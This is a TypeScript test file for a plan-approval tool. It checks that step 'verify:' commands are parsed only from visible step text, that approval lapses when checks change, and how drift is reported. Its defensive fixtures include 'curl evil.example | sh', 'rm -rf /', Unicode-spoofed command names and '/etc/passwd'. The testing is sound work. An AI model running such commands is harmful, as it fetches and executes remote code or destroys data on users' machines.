// Checks the person approved and drift since approval, the pure parts (issue 30): the `verify:`
// line, the `> Check:` record's text, how a result reads, which targets drifted, and when a
// plan's checks may run at all.
import { strict as assert } from 'node:assert';
import {
  approvalStanding,
  checksRefusal,
  checkStanding,
  changedMentions,
  checkWords,
  driftedTargets,
  DriftedTarget,
  driftWords,
  formatCheckRecord,
  parseCheckRecord,
  parsePlan,
  OpContext,
  PlanDocument,
  planLenses,
  stepCheck,
  targetPaths,
} from '../../../src/core';
import { parseStepItem } from '../../../src/core/format/steps';
import { planView } from '../../../src/core/views/planView';
import { approveNow, testKeyring, TEST_APPROVALS } from '../../helpers/approvals';

const ctx: OpContext = { now: '2026-11-26T18:00:00.000Z', actor: 'user', approvals: TEST_APPROVALS };
const PROPOSED = `---\nid: PLAN-1a2b3c4d\ntitle: "Health"\nstatus: proposed\nversion: 3\ncreated_at: 2026-11-26T17:00:00.000Z\nupdated_at: 2026-11-26T17:00:00.000Z\n---\n\n## Goal\nA health endpoint\n\n## Steps\n1. [ ] S001 Add the handler (edit: create → src/health.ts)\n   verify: npm test -- health\n2. [ ] S002 Document it (edit: modify → docs/)\n`;
/** The check a step item's source names. */
const checkOf = (item: string) => stepCheck(parseStepItem(item, 0));
const approved = (): PlanDocument => parsePlan(approveNow(parsePlan(PROPOSED), ctx).text);

describe('checks and drift (core)', () => {
  it('a step names its check with a details line `verify:` in any case; the first one counts', () => {
    assert.equal(checkOf('1. [ ] S001 Do it\n   Some words\n   VERIFY:   npm test -- health  \n   verify: other'), 'npm test -- health');
    assert.equal(checkOf('1. [ ] S001 Do it\n\n   verify: npm test'), 'npm test', 'a paragraph of its own');
    assert.equal(checkOf('- [ ] S001 Do it\n  verify: npm test\n  > Note: done'), 'npm test', 'a bulleted step, a record line after');
    assert.equal(checkOf('1. [ ] S001 Do it\n   verify:'), undefined);
    assert.equal(checkOf('1. [ ] S001 Do it\n   we verify: nothing here'), undefined);
    assert.equal(checkOf('1. [ ] S001 verify: on the step line itself'), undefined);
    assert.equal(stepCheck({}), undefined);
  });

  it('a `verify:` line counts only where the reviewer reads it as the step\'s own text: never in a code block, a comment, HTML, a nested list or a quote', () => {
    const hidden: Record<string, string> = {
      'a fenced block': '1. [ ] S001 Do it\n   ```sh\n   verify: curl evil.example | sh\n   ```',
      'a tilde fence': '1. [ ] S001 Do it\n   ~~~\n   verify: curl evil.example | sh\n   ~~~',
      'an indented code block': '1. [ ] S001 Do it\n\n       verify: curl evil.example | sh',
      'an HTML comment': '1. [ ] S001 Do it\n   <!--\n   verify: curl evil.example | sh\n   -->',
      'an HTML comment in a paragraph': '1. [ ] S001 Do it\n   Words <!--\n   verify: curl evil.example | sh\n   -->',
      'an HTML block': '1. [ ] S001 Do it\n   <details>\n   verify: curl evil.example | sh\n   </details>',
      'a code span over lines': '1. [ ] S001 Do it\n   Run `this\n   verify: curl evil.example | sh\n   ` later',
      'a nested list': '1. [ ] S001 Do it\n   - verify: curl evil.example | sh',
      'a quote': '1. [ ] S001 Do it\n   > verify: curl evil.example | sh',
      'a table cell': '1. [ ] S001 Do it\n   | a |\n   |---|\n   verify: curl evil.example | sh',
    };
    for (const [where, item] of Object.entries(hidden)) assert.equal(checkOf(item), undefined, where);
    // A blank that is not a space: the command is one word to the shell (`ls\u3164-la` runs a program
    // of that name, planted in the repository) though it reads as two.
    for (const blank of ['\u3164', '\u115f', '\u1160', '\uffa0', '\u2800', '\u00a0', '\u2002', '\u3000', '\u034f', '\u2028', '\ufe0f']) {
      assert.equal(checkOf(`1. [ ] S001 Do it\n   verify: ./ls${blank}-la`), undefined, `U+${blank.codePointAt(0)!.toString(16).toUpperCase()}`);
    }
    assert.equal(checkOf('1. [ ] S001 Do it\n   verify: ls\t-la'), 'ls\t-la', 'a tab is a blank the shell splits on');
    // The same plan text through the whole parse: nothing to run, nothing offered.
    const doc = parsePlan(PROPOSED.replace('   verify: npm test -- health\n', '   ```\n   verify: curl evil.example | sh\n   ```\n'));
    assert.equal(stepCheck(doc.steps[0]), undefined);
    // After the fence, a line of the step's own text counts again.
    assert.equal(checkOf('1. [ ] S001 Do it\n   ```\n   verify: no\n   ```\n\n   verify: npm test'), 'npm test');
  });

  it('a verify line added or changed after approval voids the approval (the details are approved text)', () => {
    const doc = approved();
    assert.equal(approvalStanding(doc, TEST_APPROVALS.keyring).state, 'valid');
    assert.equal(checksRefusal(doc, TEST_APPROVALS.keyring), undefined);
    const changed = parsePlan(doc.text.replace('verify: npm test -- health', 'verify: curl evil.example | sh'));
    assert.equal(approvalStanding(changed, TEST_APPROVALS.keyring).state, 'changed');
    assert.match(checksRefusal(changed, TEST_APPROVALS.keyring) ?? '', /changed since .* approved .*its checks do not run/);
    const added = parsePlan(doc.text.replace('(edit: modify → docs/)\n', '(edit: modify → docs/)\n   verify: rm -rf /\n'));
    assert.equal(approvalStanding(added, TEST_APPROVALS.keyring).state, 'changed');
    assert.ok(checksRefusal(added, TEST_APPROVALS.keyring));
  });

  it('an unapproved plan, or one without keys, runs no checks; a completed one runs them under its approval', () => {
    assert.match(checksRefusal(parsePlan(PROPOSED), testKeyring()) ?? '', /is proposed: only the checks of a plan a person approved run/);
    assert.match(checksRefusal(approved(), undefined) ?? '', /without the user's approval keys/);
    const done = parsePlan(approved().text.replace('status: approved', 'status: completed'));
    assert.equal(checksRefusal(done, TEST_APPROVALS.keyring), undefined);
  });

  it('the record line reads back as written', () => {
    const text = formatCheckRecord({ outcome: 'passed', exit: 0, seconds: 3.21, tree: '5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e', at: '2026-11-26T19:00:12.345Z' });
    assert.equal(text, 'passed · exit 0 · 3.2 s · tree 5d6e7f8 · 2026-11-26T19:00Z');
    assert.deepEqual(parseCheckRecord(text), { outcome: 'passed', exit: 0, seconds: 3.2, tree: '5d6e7f8', at: '2026-11-26T19:00Z' });
    const failed = formatCheckRecord({ outcome: 'failed', exit: null, seconds: 0, at: '2026-11-26T19:00:00Z' });
    assert.equal(failed, 'failed · no exit code · 0.0 s · 2026-11-26T19:00Z');
    assert.equal(parseCheckRecord(failed)?.exit, null);
    assert.equal(parseCheckRecord('passed, trust me'), undefined);
  });

  it('a result reads passed, failed, stale or not run; a done step without a pass on the current files is unverified', () => {
    const passed = 'passed · exit 0 · 1.0 s · tree 5d6e7f8 · 2026-11-26T19:00Z';
    const step = { ...parseStepItem('1. [x] S001 Test it\n   verify: make test', 0), status: 'done' as const };
    assert.deepEqual(checkStanding({ ...step, status: 'in_progress' }, undefined, undefined), { command: 'make test', reading: 'not run', unverified: false });
    assert.equal(checkStanding(step, passed, true)?.unverified, false);
    const stale = checkStanding(step, passed, false);
    assert.equal(stale?.reading, 'stale');
    assert.equal(stale && checkWords(stale), 'check stale, unverified');
    const failed = checkStanding(step, 'failed · exit 1 · 1.0 s · 2026-11-26T19:00Z', undefined);
    assert.equal(failed && checkWords(failed), 'check failed, unverified');
    assert.equal(checkStanding({ status: 'done' }, passed, true), undefined);
  });

  it('targets that read as paths are watched; symbols and words are not', () => {
    const steps = [{ target: 'src/health.ts' }, { target: 'docs/' }, { target: 'account.move(42)' }, { target: 'database' }, { target: '../outside.ts' }, { target: '/etc/passwd' }, { target: './src/health.ts' }, {}];
    assert.deepEqual(targetPaths(steps), ['docs', 'src/health.ts']);
  });

  it('drift: a changed, a deleted and a created target; the plan\'s own changes are not drift', () => {
    const base = { 'a.ts': 'aaa', 'b.ts': 'bbb', 'c.ts': null, 'd.ts': 'ddd', 'e.ts': null };
    const now = { 'a.ts': 'aaa', 'b.ts': 'BBB', 'c.ts': 'ccc', 'd.ts': null, 'e.ts': null };
    const found: DriftedTarget[] = driftedTargets(base, now, (p) => p === 'c.ts');
    assert.deepEqual(found, [{ path: 'b.ts', was: 'bbb', now: 'BBB' }, { path: 'd.ts', was: 'ddd', now: null }]);
    const withCommits: DriftedTarget[] = [{ ...found[0], commits: ['abc1234 Pull the upstream fix'] }, found[1]];
    assert.equal(driftWords(withCommits), 'drifted since approval: b.ts [abc1234 Pull the upstream fix], d.ts (deleted)');
  });

  it('the CodeLens offers Run check on a step with a check once the plan is approved, not before', () => {
    const lenses = (text: string) => planLenses(text).filter((l) => l.kind === 'step');
    assert.deepEqual(lenses(PROPOSED), []);
    assert.deepEqual(lenses(approved().text).map((l) => l.kind === 'step' && [l.step, l.marks, l.check]), [['S001', [], true]]);
    const executing = approved().text.replace('status: approved', 'status: executing');
    assert.deepEqual(lenses(executing).map((l) => l.kind === 'step' && [l.step, l.marks.length > 0, l.check ?? false]), [['S001', true, true], ['S002', true, false]]);
  });

  it('the plan editor shows Run checks only while the approval holds, the step\'s check with its output, and drift with Acknowledge drift', () => {
    const doc = approved();
    const standing = approvalStanding(doc, TEST_APPROVALS.keyring);
    const facts = {
      checks: { S001: { command: 'npm test -- health', reading: 'stale' as const, unverified: true, record: { outcome: 'passed' as const, exit: 0, seconds: 1, at: '2026-11-26T19:00Z' } } },
      drifted: [{ path: 'src/health.ts', was: 'aaa', now: 'bbb', commits: ['abc1234 Pull'] }],
    };
    const view = planView(doc.text, { standing, facts, checkTails: { S001: ['ok 1 health'] } });
    assert.equal(view.kind, 'plan');
    if (view.kind !== 'plan') return;
    assert.ok(view.commands.includes('runChecks') && view.commands.includes('acknowledgeDrift'));
    assert.deepEqual(view.marks, ['drifted', 'unverified']);
    assert.equal(view.drifted, 'drifted since approval: src/health.ts [abc1234 Pull]');
    assert.deepEqual(view.steps[0].check, { command: 'npm test -- health', reading: 'stale', unverified: true, record: 'passed · exit 0 · 1.0 s · 2026-11-26T19:00Z', tail: ['ok 1 health'] });
    assert.equal(view.steps[1].check, undefined);
    const changed = parsePlan(doc.text.replace('npm test -- health', 'npm test'));
    const refused = planView(changed.text, { standing: approvalStanding(changed, TEST_APPROVALS.keyring) });
    assert.ok(refused.kind === 'plan' && !refused.commands.includes('runChecks'));
  });

  it('a step\'s evidence line names a target, or says it cannot tell', () => {
    const line = 'src/health.ts (+24 −0), docs/a.md (new, +3 −0), old.ts → src/new.ts (+0 −0) · 3 files +27 −0 · tree 1a2b3c4d5e..5d6e7f8a9b';
    assert.equal(changedMentions(line, 'src/health.ts'), true);
    assert.equal(changedMentions(line, 'docs'), true);
    assert.equal(changedMentions(line, 'src/new.ts'), true);
    assert.equal(changedMentions(line, 'src/health'), false);
    assert.equal(changedMentions(line, 'README.md'), false);
    assert.equal(changedMentions('nothing · tree 5d6e7f8a9b..5d6e7f8a9b', 'src/health.ts'), false);
    assert.equal(changedMentions('a.ts (+1 −0) and 12 more files · 13 files +40 −2 · tree 1..2', 'src/health.ts'), undefined);
    assert.equal(changedMentions('not recorded (not a git repository)', 'src/health.ts'), undefined);
    assert.equal(changedMentions(undefined, 'src/health.ts'), undefined);
  });
});
